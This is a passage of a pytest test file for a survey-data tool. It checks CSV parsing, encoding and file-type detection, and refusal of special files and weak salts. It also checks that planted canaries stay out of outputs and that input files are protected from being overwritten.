    assert s.data.loc[4, "comment"] == "first line\nsecond line"
    assert s.report.line_spans == ((6, 7), (12, 14))
    assert any("2 row(s) span several lines" in n and "6-7, 12-14" in n for n in s.report.notes)
    assert s.report.to_dict()["line_spans"] == [[6, 7], [12, 14]]


@pytest.mark.parametrize("quotes", [False, True], ids=["no quotes", "quoted cells elsewhere"])
@pytest.mark.parametrize(
    ("change", "needle"),
    [
        (lambda ls: ls.__setitem__(5, ls[5].rsplit(",", 2)[0]), "line 6 has 6"),
        (lambda ls: ls.__setitem__(300, ls[300] + ",extra"), "line 301 has 9"),
        (lambda ls: ls.__setitem__(5, "R005,1"), "line 6 has 2"),
    ],
    ids=["short row", "long row far down", "very short row"],
)
def test_rows_with_too_few_or_too_many_fields_are_named(tmp_path, quotes, change, needle):
    lines = _rows(400, comment={2: '"quoted, with a comma"'} if quotes else None)
    change(lines)
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DataValidationError, match="do not have the header's 8 fields") as info:
        ld.read_survey(path)
    assert needle in str(info.value)
    assert "not padded" in str(info.value)


def test_many_ragged_rows_are_counted_and_the_first_listed(tmp_path):
    lines = _rows(100)
    for k in range(1, 101, 2):
        lines[k] = lines[k] + ",x"
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DataValidationError, match=r"50 row\(s\) do not have") as info:
        ld.read_survey(path)
    assert "line 2 has 9" in str(info.value) and "and 42 more" in str(info.value)


def test_unclosed_quote_at_the_end_is_an_error_with_its_line(tmp_path):
    lines = _rows(20)
    lines[-1] = lines[-1].replace(",fine", ',"never closed')
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DataValidationError, match=r"opens on line 21 and is never closed"):
        ld.read_survey(path)


def test_blank_and_whitespace_lines_are_skipped_and_empty_rows_listed(tmp_path):
    lines = _rows(10)
    lines.insert(4, "")
    lines.insert(6, "   \t")
    lines.insert(8, ",,,,,,,")
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n")
    s = ld.read_survey(path)
    assert len(s.data) == 10
    assert s.report.dropped[0].reason == "entirely empty row" and s.report.dropped[0].count == 1


# ----------------------------------------------------------------------------- 8. large files: only the needed columns, in chunks

_CHUNK_CELL = st.one_of(
    st.integers(1, 7).map(str),
    st.integers(-300, 300).map(str),
    st.sampled_from(["", "2.5", "x", "NA", "TRUE", "FALSE", "007", "99999999999", "1e3"]),
)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.lists(st.tuples(_CHUNK_CELL, _CHUNK_CELL, _CHUNK_CELL), min_size=1, max_size=20),
    st.booleans(),
    st.integers(1, 4),
)
def test_reading_in_chunks_gives_what_one_reading_gives(rows, compact, chunk):
    """``score`` reads a large export a few columns and 100,000 rows at a time (class 8). The
    chunks may not change a cell: a column with text only after the first chunk is all text,
    as one reading gives it ("007" stays "007"), whatever the chunk size."""
    import tempfile
    import warnings
    from unittest import mock

    import learning_direction.intake.io.text as text_mod

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "d.csv"
        lines = (f"R{k},{a},{b},{c}\n" for k, (a, b, c) in enumerate(rows))
        path.write_text("id,a,b,c\n" + "".join(lines))
        outs = []
        for size in (chunk, 10**6):
            with mock.patch.object(text_mod, "_ROWS_PER_CHUNK", size), warnings.catch_warnings():
                warnings.simplefilter("ignore")
                s = ld.read_survey(path, columns=["id", "a", "c"], compact=compact)
            outs.append((s.data, s.report.to_dict()))
    pd.testing.assert_frame_equal(outs[0][0], outs[1][0])
    assert outs[0][1] == outs[1][1] and outs[0][1]["n_rows_read"] == len(rows)


def test_score_reads_only_its_columns_compactly_and_counts_every_row(tmp_path):
    """What keeps ``score`` on 2,000,000 rows under 8x the file (bench/score_memory.py): only
    the item and id columns are read, answers as int8, and every row is still audited."""
    df = items_frame(50)
    df["comment"] = ["a long free-text answer " * 20] * 50
    df.loc[7, "comment"] = 'quoted, "with" a comma'
    path = write_csv(tmp_path, df)
    s = ld.read_survey(path, columns=["id", *ENG], compact=True)
    assert list(s.data.columns) == ["id", *ENG] and s.report.n_rows_read == 50
    assert all(s.data[c].dtype == np.int8 for c in ENG)
    full = ld.read_survey(path)
    a = ld.score(s.data, "mentor_engagement", id_column="id").scores
    b = ld.score(full.data, "mentor_engagement", id_column="id").scores
    pd.testing.assert_frame_equal(a, b)
    lines = path.read_text().splitlines()
    lines[30] += ",extra"  # an unread column's extra field is still caught, by line
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DataValidationError, match="line 31 has 9"):
        ld.read_survey(path, columns=["id", *ENG], compact=True)


# ----------------------------------------------------------------------------- 7. special files


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
@pytest.mark.parametrize("as_", ["data", "config", "scale", "columns map"])
def test_dev_zero_is_not_a_regular_file(tmp_path, capsys, as_):
    data = write_csv(tmp_path, items_frame())
    argv = {
        "data": ["score", "/dev/zero", "--scale", "mentor_engagement", "--format-hint"],
        "config": ["evaluate", "/dev/zero"],
        "scale": ["score", str(data), "--scale", "/dev/zero"],
        "columns map": [
            "score",
            str(data),
            "--scale",
            "mentor_engagement",
            "--columns",
            "/dev/zero",
        ],
    }[as_]
    argv = [a for a in argv if a != "--format-hint"]
    if as_ == "data":
        link = tmp_path / "zero.csv"
        link.symlink_to("/dev/zero")
        argv[1] = str(link)
    code, line = cli_error(capsys, argv)
    assert code == 2 and "not a regular file (a device)" in line, line


@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="no named pipes")
@pytest.mark.parametrize("as_", ["data", "config", "columns map"])
def test_a_named_pipe_does_not_hang(tmp_path, as_):
    import os
    import subprocess
    import sys

    fifo = tmp_path / ("data.csv" if as_ == "data" else "c.yaml")
    os.mkfifo(fifo)
    data = write_csv(tmp_path, items_frame(), "real.csv")
    argv = {
        "data": ["score", str(fifo), "--scale", "mentor_engagement"],
        "config": ["evaluate", str(fifo), "--check"],
        "columns map": ["score", str(data), "--scale", "mentor_engagement", "--columns", str(fifo)],
    }[as_]
    res = subprocess.run(
        [sys.executable, "-m", "learning_direction.cli", *argv],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert res.returncode == 2, res.stderr
    assert "not a regular file (a named pipe (FIFO))" in res.stderr


# ----------------------------------------------------------------------------- 11. silent conversions, misleading messages


def test_na_and_none_as_text_stay_text(tmp_path):
    path = tmp_path / "regions.csv"
    path.write_text("id,region,answer,q1\n1,NA,None,3\n2,EU,Some,NA\n3,APAC,None,4\n4,NA,,5\n")
    s = ld.read_survey(path)
    assert s.data["region"].tolist() == ["NA", "EU", "APAC", "NA"]  # North America
    assert s.data["answer"].tolist()[:3] == ["None", "Some", "None"]
    assert s.data["q1"].isna().tolist() == [False, True, False, False]  # a numeric column
    rec = s.report.recodings_table
    assert rec[["column", "from_value", "count", "reason"]].to_dict("records") == [
        {"column": "q1", "from_value": "NA", "count": 1,
         "reason": "missing-value token in a numeric column"}
    ]  # fmt: skip
    t = ld.read_survey(path, missing_codes={"region": ["NA"]})
    assert t.data["region"].isna().sum() == 2
    assert ("region", "NA", 2) in set(
        zip(
            t.report.recodings_table["column"],
            t.report.recodings_table["from_value"],
            t.report.recodings_table["count"],
        )
    )


def test_every_token_conversion_reaches_the_cli_notes(tmp_path, capsys):
    df = items_frame().astype(object)
    df.loc[3, "eng_2"] = "NA"
    df.loc[4, "eng_2"] = "#N/A"
    path = write_csv(tmp_path, df)
    assert main(["score", str(path), "--scale", "mentor_engagement"]) == 0
    err = capsys.readouterr().err
    assert "2 value(s) recoded to missing" in err


def _encrypted_office_file() -> bytes:
    """The start of a password-protected .xlsx: an OLE container naming its EncryptedPackage."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
        + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 2000
    )  # fmt: skip


READ_MESSAGES = {
    "gzip named .csv": (
        "data.csv", lambda: __import__("gzip").compress(b"id,eng_1\n1,2\n"),
        "is a gzip-compressed file, not a CSV text file; decompress it first",
    ),
    "xlsx named .csv": (
        "data.csv", lambda: _xlsx_bytes(), "is an Excel workbook, not a CSV text file; rename it",
    ),
    "password-protected xlsx": (
        "data.xlsx", _encrypted_office_file,
        "is a password-protected (encrypted) Excel workbook, not an Excel .xlsx workbook",
    ),
    "old xls named .xlsx": (
        "data.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "is an old Excel 97-2003 workbook (.xls)",
    ),
    "csv named .xlsx": ("data.xlsx", lambda: b"id,eng_1\n1,2\n", "is text, not a workbook"),
    "password-protected sav": (
        "data.sav", lambda: b"\x1c\x00\x00\x00\x00\x00\x00\x00ENCRYPTEDSAV\x15" + b"\x00" * 100,
        "is a password-protected (encrypted) SPSS file",
    ),
    "PDF named .csv": ("data.csv", lambda: b"%PDF-1.7\n...", "is a PDF document"),
    "BOM then a Windows-1252 byte": (
        "data.csv", lambda: b"\xef\xbb\xbfid,comment\n1,ok\n2,it\x92s fine\n",
        "starts with a UTF-8 byte-order mark but is not all UTF-8",
    ),
    "binary with NUL bytes": (
        "data.csv", lambda: b"id,x\n" + bytes(range(256)) * 4, "contains NUL bytes",
    ),
}  # fmt: skip


def _xlsx_bytes() -> bytes:
    import io

    buf = io.BytesIO()
    pd.DataFrame({"id": [1, 2], "eng_1": [3, 4]}).to_excel(buf, index=False)
    return buf.getvalue()


@pytest.mark.parametrize("case", READ_MESSAGES.values(), ids=READ_MESSAGES.keys())
def test_messages_say_what_the_file_is(tmp_path, capsys, case):
    name, make, needle = case
    path = tmp_path / name
    path.write_bytes(make())
    with pytest.raises(DataValidationError, match=re.escape(needle)):
        ld.read_survey(path)
    code, line = cli_error(capsys, ["score", str(path), "--scale", "mentor_engagement"])
    assert code == 2 and needle in line, line


def test_bom_with_a_windows_1252_byte_names_line_and_byte(tmp_path):
    path = tmp_path / "data.csv"
    path.write_bytes(b"\xef\xbb\xbfid,comment\n1,ok\n2,it\x92s fine\n")
    with pytest.raises(DataValidationError, match=r"byte 0x92 on line 3"):
        ld.read_survey(path)
    s = ld.read_survey(path, encoding="cp1252")  # the way out the message names
    assert s.data.columns.tolist() == ["id", "comment"] and s.data.loc[1, "comment"] == "it’s fine"


@pytest.mark.parametrize("order", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_read_and_said(tmp_path, order):
    path = tmp_path / "data.csv"
    path.write_bytes("id,région\n1,Zürich\n2,Genève\n".encode(order))
    s = ld.read_survey(path)
    assert s.data["région"].tolist() == ["Zürich", "Genève"]
    assert s.report.encoding == order
    assert any("UTF-16 text without a byte-order mark" in n for n in s.report.notes)


def test_full_width_digits_are_named_not_shown_as_gibberish(tmp_path, capsys):
    df = items_frame().astype(object)
    df.loc[2, "eng_3"] = "５"
    df.loc[5, "eng_3"] = "４"
    path = write_csv(tmp_path, df)
    s = ld.read_survey(path)
    note = next(n for n in s.report.notes if "'eng_3'" in n)
    assert "full-width digits" in note and "file row(s) 4, 7" in note
    code, line = cli_error(capsys, ["score", str(path), "--scale", "mentor_engagement"])
    assert code == 2 and "full-width digits" in line and "retype them as 0-9" in line
    with pytest.warns(Warning):
        res = ld.score(s.data, "mentor_engagement", invalid="missing")
    assert res.invalid["reason"].str.contains("full-width digits").all()


def test_mediate_cluster_with_one_row_per_cluster_warns_on_the_command_line(tmp_path, capsys):
    df = items_frame(60)
    df["mentor"] = [f"M{k}" for k in range(60)]  # every cluster one row: not multilevel
    data = write_csv(tmp_path, df)
    argv = ["mediate", str(data), "--x", "eng_1", "--m", "eng_2", "--y", "eng_3",
            "--cluster", "mentor", "--n-boot", "200", "--seed", "1"]  # fmt: skip
    assert main(argv) == 0
    out, err = capsys.readouterr()
    assert "warning: every cluster of 'mentor' has one row: the design is not multilevel" in err
    assert "multilevel" not in out.replace("not multilevel", "")  # never called multilevel


# ----------------------------------------------------------------------------- property: nothing lost


_CELL = st.one_of(
    st.sampled_from(["", " ", "1", "2.5", "-3", "NA", "None", "#N/A", "x", "a b", "TRUE", "５"]),
    st.text(alphabet=st.sampled_from(list('ab1,;"\n\r\t |é')), max_size=6),
    st.text(max_size=3),  # anything, NUL bytes included (rarely)
)
_LINE_END = st.sampled_from(["\n", "\r\n", "\r"])


@st.composite
def _csv_bytes(draw) -> bytes:
    """CSV-like bytes: ragged rows, quotes, embedded line breaks, odd encodings, or raw bytes."""
    if draw(st.integers(0, 9)) == 0:
        return draw(st.binary(max_size=200))
    delim = draw(st.sampled_from([",", ";", "\t", "|"]))
    width = draw(st.integers(1, 5))
    ragged = draw(st.booleans())
    size = (
        {"min_size": 1, "max_size": width + 1} if ragged else {"min_size": width, "max_size": width}
    )
    rows = draw(st.lists(st.lists(_CELL, **size), min_size=1, max_size=12))
    header = [f"c{k}" for k in range(width)]
    quote = draw(st.booleans())

    def cell(v: str) -> str:
        return '"' + v.replace('"', '""') + '"' if quote and draw(st.booleans()) else v

    end = draw(_LINE_END)
    text = end.join(delim.join(cell(v) for v in r) for r in [header, *rows])
    text += end if draw(st.booleans()) else ""
    enc = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]))
    return text.encode(enc, errors="replace")


# LD_HYPOTHESIS_EXAMPLES=5000 for a longer search (4,000 examples pass)
@settings(
    max_examples=int(os.environ.get("LD_HYPOTHESIS_EXAMPLES", 200)),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(_csv_bytes())
def test_read_survey_raises_or_accounts_for_every_row(raw):
    import tempfile
    import warnings

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "data.csv"
        path.write_bytes(raw)
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                s = ld.read_survey(path)
        except LearningDirectionError:
            return
    rep = s.report
    assert len(s.data) == rep.n_rows
    assert rep.n_rows + sum(d.count for d in rep.dropped) == rep.n_rows_read
    for d in rep.dropped:
        assert d.count == len(d.rows)
    # every record of the file is a row (or a header row, or a blank line): an independent count
    assert rep.n_rows_read == _records_in(raw, rep)


def _records_in(raw: bytes, rep) -> int:
    """Data records of the file by Python's csv module (blank lines skipped, as documented)."""
    import csv
    import io

    enc = {"utf-8": "utf-8-sig", "utf-8-sig": "utf-8-sig"}.get(rep.encoding, rep.encoding)
    text = raw.decode(enc)
    if text.startswith("\ufeff"):
        text = text[1:]
    raw_lines: list[str] = []

    def feed():
        for line in io.StringIO(text, newline=""):
            raw_lines.append(line)
            yield line

    n = 0
    csv.field_size_limit(2**31 - 1)
    for record in csv.reader(feed(), delimiter=rep.delimiter):
        blank_line = len(record) <= 1 and raw_lines[-1].strip(" \t\r\n") == ""
        if not blank_line:  # a line of only spaces is no record; a quoted empty cell is
            n += 1
    return n - rep.header_rows


# ----------------------------------------------------------------------------- 4. weak salts

WEAK_SALTS = {
    "the example's salt": ("example-salt-change-me", "published example or placeholder"),
    "changeme": ("CHANGE_ME_changeme_123", "published example or placeholder"),
    "your salt here": ("your-salt-here-1234567", "published example or placeholder"),
    "short": ("k3v9q2x7", "too short (8 characters, at least 16"),
    "few distinct": ("abababababcabcabcab", "only 3 different characters"),
    "repeated pattern": ("a1b2c3d4e5f6g7h8" * 2, "repeats the pattern"),
    "alphabet run": ("abcdefghijklmnopqrs", "run of consecutive characters"),
    "digit run": ("0123456789:;<=>?@A", "run of consecutive characters"),
}


@pytest.mark.parametrize("case", WEAK_SALTS.values(), ids=WEAK_SALTS.keys())
def test_weak_salts_are_refused_in_the_config(tmp_path, capsys, case):
    salt, needle = case
    cfg = eval_config(tmp_path, privacy={"salt": salt})
    with pytest.raises(ConfigError, match=re.escape(needle)) as info:
        load_config(cfg)
    assert "key 'privacy.salt'" in str(info.value) and "secrets.token_hex" in str(info.value)
    code, line = cli_error(capsys, ["evaluate", str(cfg), "--check"])
    assert code == 2 and needle in line


@pytest.mark.parametrize("case", WEAK_SALTS.values(), ids=WEAK_SALTS.keys())
def test_weak_salts_are_refused_from_the_environment(tmp_path, monkeypatch, case):
    salt, needle = case
    monkeypatch.setenv("LD_TEST_WEAK_SALT", salt)
    cfg = eval_config(tmp_path, privacy={"salt_env": "LD_TEST_WEAK_SALT"})
    with pytest.raises(ConfigError, match=re.escape(needle.replace(repr(salt), "it"))) as info:
        run_evaluation(cfg)
    assert "environment variable LD_TEST_WEAK_SALT" in str(info.value)
    assert not (tmp_path / "out").exists()
    with pytest.raises(ConfigError):
        ld.pseudonymise(["a"], salt)


def test_strong_salts_pass():
    import secrets

    from learning_direction.intake.privacy import salt_problem

    for _ in range(50):
        assert salt_problem(secrets.token_hex(16)) is None
        assert salt_problem(secrets.token_urlsafe(16)) is None
    assert salt_problem(SALT) is None


def test_the_shipped_example_carries_no_salt():
    text = (Path(__file__).parents[1] / "examples" / "evaluation.yaml").read_text()
    assert "salt_env: LEARNING_DIRECTION_SALT" in text
    assert "example-salt-change-me" not in text


# ----------------------------------------------------------------------------- 3. canaries: nothing private reaches an output

#: distinctive strings planted in every kind of column; none may appear in any output file
CANARIES = {
    "respondent id": "CNRYRESP",
    "e-mail identifier": "cnry.mail@example.org",
    "name identifier": "Cnryname",
    "IP identifier": "203.0.113.77",
    "text in a numeric identifier": "CNRYPHONE",
    "free-text comment": "CNRYCOMMENT",
    "e-mail typed into an item": "cnry.item@example.org",
    "text typed into an item": "CNRYITEMTEXT",
    "text in a numeric column": "CNRYAGE",
    "text id among numeric ids": "cnry.id@example.org",
    "mentor id (join)": "CNRYMENTOR",
    "mentee id": "CNRYMENTEE",
    "network ego id": "CNRYEGO",
    "free text in a mentee item": "CNRYMXTEXT",
}


def _canary_exports(tmp: Path) -> Path:
    """A mentors file, a mentees file and a networks file with a canary in every column type,
    and a config that names the ids, the join and the identifiers; returns the config."""
    rng = np.random.default_rng(7)
    n = 40
    mentors = items_frame(n, seed=3)
    mentors["id"] = [str(1000 + k) for k in range(n)]
    mentors.loc[5, "id"] = CANARIES["text id among numeric ids"]  # mostly numeric ids ...
    mentors.loc[6, "id"] = CANARIES["respondent id"] + "X"
    mentors["mentor_code"] = [f"{CANARIES['mentor id (join)']}{k:03d}" for k in range(n)]
    mentors["email"] = [f"{k}.{CANARIES['e-mail identifier']}" for k in range(n)]
    mentors["full_name"] = [f"{CANARIES['name identifier']} {k}" for k in range(n)]
    mentors["IPAddress"] = [CANARIES["IP identifier"]] * n
    mentors["phone"] = [str(7700900000 + k) for k in range(n)]
    mentors.loc[8, "phone"] = CANARIES["text in a numeric identifier"]  # a note before stripping
    mentors["comment"] = [f"{CANARIES['free-text comment']} {k}" if k % 3 else "" for k in range(n)]
    mentors["age"] = rng.integers(25, 60, n).astype(object)
    mentors.loc[9, "age"] = CANARIES["text in a numeric column"]
    mentors["site"] = np.where(np.arange(n) % 2, "Leeds", "York")
    mentors = mentors.astype({"eng_2": object, "eng_4": object})
    mentors.loc[11, "eng_2"] = CANARIES["e-mail typed into an item"]
    mentors.loc[12, "eng_4"] = CANARIES["text typed into an item"]
    mentees = pd.DataFrame(
        {
            "mentee_id": [f"{CANARIES['mentee id']}{k:03d}" for k in range(2 * n)],
            "mentor_code": [f"{CANARIES['mentor id (join)']}{k % n:03d}" for k in range(2 * n)],
            "site": np.where(np.arange(2 * n) % 2, "Leeds", "York"),
        }
    )
    for k in range(1, 6):
        mentees[f"mx_{k}"] = rng.integers(1, 6, 2 * n).astype(object)
    mentees.loc[3, "mx_2"] = CANARIES["free text in a mentee item"]
    networks = pd.DataFrame(
        {
            "ego": [f"{CANARIES['network ego id']}{k % 20:03d}" for k in range(60)],
            "level": rng.choice(["up", "lateral", "down"], 60),
            "strength": rng.integers(1, 6, 60),
        }
    )
    for name, df in {"mentors": mentors, "mentees": mentees, "networks": networks}.items():
        df.to_csv(tmp / f"{name}.csv", index=False)
    scale = tmp / "mentee_view.yaml"
    scale.write_text(
        "name: mentee_view\nrespondent: mentee\nresponse: {min: 1, max: 5}\n"
        "items: [mx_1, mx_2, mx_3, mx_4, mx_5]\n"
    )
    cfg = {
        "program": "Canary program",
        "data": {n: {"path": f"{n}.csv"} for n in ("mentors", "mentees", "networks")},
        "ids": {"mentors": "id", "mentees": "mentee_id"},
        "join": {"mentors": "mentor_code", "mentees": "mentor_code"},
        "identifiers": {"mentors": ["email", "full_name", "IPAddress", "phone", "comment"]},
        "scales": {"mentor_engagement": {}, "mentee_view": {"file": str(scale)}},
        "groups": {"site": "site"},
        "analyses": {
            "reliability": True,
            "networks": {"ego": "ego", "level": "level", "tie_strength": "strength"},
        },
        "report": {"min_group_size": 3},
        "privacy": {"salt": SALT},
        "output": "out",
    }
    path = tmp / "evaluation.yaml"
    path.write_text(yaml.safe_dump(cfg, sort_keys=False), encoding="utf-8")
    return path


def _leaks(folder: Path) -> list[str]:
    """Every canary found in any file under ``folder`` (text, JSON, CSV, PNG/SVG bytes)."""
    found = []
    for f in sorted(p for p in folder.rglob("*") if p.is_file()):
        raw = f.read_bytes()
        for what, canary in CANARIES.items():
            for form in {canary, canary.lower(), canary.upper()}:
                if form.encode() in raw or form.encode("utf-16-le") in raw:
                    found.append(f"{what} in {f.relative_to(folder)}")
    return sorted(set(found))


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_canaries_never_reach_an_evaluation_output(tmp_path, monkeypatch):
    import matplotlib.text

    import learning_direction.evaluation.output as output_mod
    import learning_direction.reporting.html as html_mod

    # a PNG holds its text as pixels: read every figure's text before it is drawn
    drawn: list[str] = []
    real = html_mod.figure_to_png_bytes

    def spy(fig, dpi=150):
        drawn.extend(t.get_text() for t in fig.findobj(matplotlib.text.Text))
        drawn.append(str(fig.get_suptitle()) if hasattr(fig, "get_suptitle") else "")
        return real(fig, dpi=dpi)

    monkeypatch.setattr(html_mod, "figure_to_png_bytes", spy)
    monkeypatch.setattr(output_mod, "figure_to_png_bytes", spy)
    cfg = _canary_exports(tmp_path)
    html = run_evaluation(cfg)
    out = html.parent
    figure_text = "\n".join(drawn).lower()
    assert "york" in figure_text or "leeds" in figure_text  # the spy sees the figures' text
    assert [w for w, c in CANARIES.items() if c.lower() in figure_text] == []
    assert (out / "tables" / "invalid_answers.csv").exists()
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) > 10 and any(p.suffix == ".png" for p in files)
    assert _leaks(out) == []
    # the report still says where to look: rows, columns and kinds of text, not the text
    page = html.read_text(encoding="utf-8")
    assert "text (21 characters)" in page  # the e-mail typed into eng_2, described
    assert "column &#x27;age&#x27; is mostly numeric" in page and "file row(s) 11" in page


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_canaries_never_reach_the_files_the_cli_writes(tmp_path, capsys):
    _canary_exports(tmp_path)
    data = tmp_path / "mentors.csv"
    out = tmp_path / "cli_out"
    out.mkdir()
    df = pd.read_csv(data).assign(
        eng_2=lambda d: pd.to_numeric(d["eng_2"], errors="coerce"),
        eng_4=lambda d: pd.to_numeric(d["eng_4"], errors="coerce"),
    )
    clean = tmp_path / "mentors_numeric_items.csv"
    df.to_csv(clean, index=False)  # identifiers, comments and text ids still in it
    runs = [
        ["score", str(clean), "--scale", "mentor_engagement", "--out", str(out / "s.csv")],
        ["score", str(clean), "--scale", "mentor_engagement", "--out", str(out / "s.md")],
        ["reliability", str(clean), "--scale", "mentor_engagement", "--out", str(out / "r.html")],
        ["moderate", str(clean), "--x", "eng_1", "--w", "eng_3", "--y", "eng_5",
         "--out", str(out / "m.csv")],
    ]  # fmt: skip
    printed = []
    for argv in runs:
        assert main(argv) == 0, capsys.readouterr().err
        printed.append("".join(capsys.readouterr()))  # notes and warnings are outputs too
    assert _leaks(out) == []
    # --id copies the ids into the scores, as asked; nothing else, and no note quotes a value
    with_ids = tmp_path / "with_ids"
    with_ids.mkdir()
    argv = ["score", str(clean), "--scale", "mentor_engagement", "--id", "id",
            "--out", str(with_ids / "s.csv")]  # fmt: skip
    assert main(argv) == 0
    printed.append("".join(capsys.readouterr()))
    ids = {"respondent id", "text id among numeric ids"}
    assert [leak for leak in _leaks(with_ids) if leak.split(" in ")[0] not in ids] == []
    (tmp_path / "printed").mkdir()
    (tmp_path / "printed" / "console.txt").write_text("\n".join(printed), encoding="utf-8")
    assert "'id' is mostly numeric" in printed[-1]  # the note that used to quote the values
    assert _leaks(tmp_path / "printed") == []


# ----------------------------------------------------------------------------- 2. outputs that are inputs


@pytest.mark.parametrize("command", ["score", "reliability"])
@pytest.mark.parametrize("how", ["same path", "relative path", "symbolic link", "hard link"])
def test_out_naming_an_input_is_refused_and_the_input_kept(
    tmp_path, capsys, monkeypatch, command, how
):
    import os

    data = write_csv(tmp_path, items_frame())
    before = data.read_bytes()
    monkeypatch.chdir(tmp_path)
    out = {
        "same path": str(data),
        "relative path": "./sub/../data.csv",
        "symbolic link": str(tmp_path / "link.csv"),
        "hard link": str(tmp_path / "hard.csv"),
    }[how]
    (tmp_path / "sub").mkdir()
    if how == "symbolic link":
        (tmp_path / "link.csv").symlink_to(data)
    if how == "hard link":
        os.link(data, tmp_path / "hard.csv")
    code, line = cli_error(
        capsys, [command, str(data), "--scale", "mentor_engagement", "--out", out]
    )
    assert code == 2 and "is the input file" in line and "overwrite your data" in line, line
    assert data.read_bytes() == before


def test_out_naming_the_columns_map_or_scale_file_is_refused(tmp_path, capsys):
    data = write_csv(tmp_path, items_frame())
    cmap = tmp_path / "map.csv"  # a YAML map may have any name
    cmap.write_text("eng_1: eng_1\n")
    code, line = cli_error(capsys, ["score", str(data), "--scale", "mentor_engagement",
                                    "--columns", str(cmap), "--out", str(cmap)])  # fmt: skip
    assert code == 2 and "is the input file" in line
    assert cmap.read_text() == "eng_1: eng_1\n"


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_evaluation_output_folder_cannot_hold_or_link_to_inputs(tmp_path, capsys):
    cfg = eval_config(tmp_path, output=".")  # the config's own folder, holding the data
    code, line = cli_error(capsys, ["evaluate", str(cfg)])
    assert code == 2 and "holds the input file" in line, line
    assert (tmp_path / "mentors.csv").exists() and (tmp_path / "evaluation.yaml").exists()
    # an earlier report folder with a link planted among the tables, pointing at the data
    cfg = eval_config(tmp_path)
    out = run_evaluation(cfg).parent
    data = tmp_path / "mentors.csv"
    before = data.read_bytes()
    (out / "tables" / "files.csv").unlink()
    (out / "tables" / "files.csv").symlink_to(data)
    code, line = cli_error(capsys, ["evaluate", str(cfg)])
    assert code == 2 and "files this tool did not write" in line and "tables/files.csv" in line
    assert data.read_bytes() == before


# ----------------------------------------------------------------------------- 9. atomic, honest outputs


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_a_full_disk_leaves_the_earlier_report_whole(tmp_path, capsys, monkeypatch):
    import errno

    import learning_direction.evaluation.output as output

    cfg = eval_config(tmp_path)
    first = run_evaluation(cfg).parent
    snapshot = {p.relative_to(first): p.read_bytes() for p in first.rglob("*") if p.is_file()}
    written = []
    real = output._write

    def full_after_three(path, data):
        if len(written) == 3:
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        written.append(path)
        real(path, data)

    monkeypatch.setattr(output, "_write", full_after_three)
    code, line = cli_error(capsys, ["evaluate", str(cfg), "--out", str(first)])
    assert code == 2, line
    assert "no space left on the device" in line and "nothing was changed" in line
    after = {p.relative_to(first): p.read_bytes() for p in first.rglob("*") if p.is_file()}
    assert after == snapshot  # not one file touched, no partial or 0-byte file
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")]
    assert leftovers == []  # the temporary folder and the lock are gone


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_a_new_run_replaces_the_folder_whole_and_says_so(tmp_path, capsys):
    cfg = eval_config(tmp_path)
    out = run_evaluation(cfg).parent
    (out / "tables" / "stale_from_an_older_version.csv").write_text("x\n1\n")
    (out / "figures" / "old.png").write_bytes(b"\x89PNG")
    capsys.readouterr()
    assert main(["evaluate", str(cfg)]) == 0
    err = capsys.readouterr().err
    assert "replaced the earlier outputs in" in err and "2 stale file(s)" in err
    assert not (out / "tables" / "stale_from_an_older_version.csv").exists()
    side = json.loads((out / "evaluation_report.json").read_text())
    listed = {f"tables/{p.name}" for p in (out / "tables").iterdir()}
    listed |= {f"figures/{p.name}" for p in (out / "figures").iterdir()}
    assert listed == set(side["outputs"])  # every file listed, nothing stale
    assert side["replaced"]["stale"] == [
        "figures/old.png",
        "tables/stale_from_an_older_version.csv",
    ]


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_a_folder_of_other_files_is_never_replaced(tmp_path, capsys):
    cfg = eval_config(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "thesis.docx").write_text("years of work")
    code, line = cli_error(capsys, ["evaluate", str(cfg)])
    assert code == 2 and "files this tool did not write (e.g. thesis.docx)" in line
    assert (out / "thesis.docx").read_text() == "years of work"


def test_two_runs_into_one_folder_are_kept_apart_by_a_lock(tmp_path):
    from learning_direction._core.outputs import OutputFolder
    from learning_direction.exceptions import OutputError

    target = tmp_path / "out"
    a = OutputFolder(target, inputs=[], owned=lambda f: ([], []), error=OutputError)
    b = OutputFolder(target, inputs=[], owned=lambda f: ([], []), error=OutputError)
    with a:
        (a.path / "one.txt").write_text("a")
        with pytest.raises(OutputError, match="another run is writing into"):
            b.__enter__()
        a.commit()
    assert (target / "one.txt").read_text() == "a"
    with b:  # free again once the first run is done
        (b.path / "two.txt").write_text("b")
        b.commit()
    assert sorted(p.name for p in target.iterdir()) == ["two.txt"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no lock or temporary folder left


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_concurrent_evaluations_into_one_folder(tmp_path):
    """Two processes at once: one writes the report, the other is refused (or waits its turn);
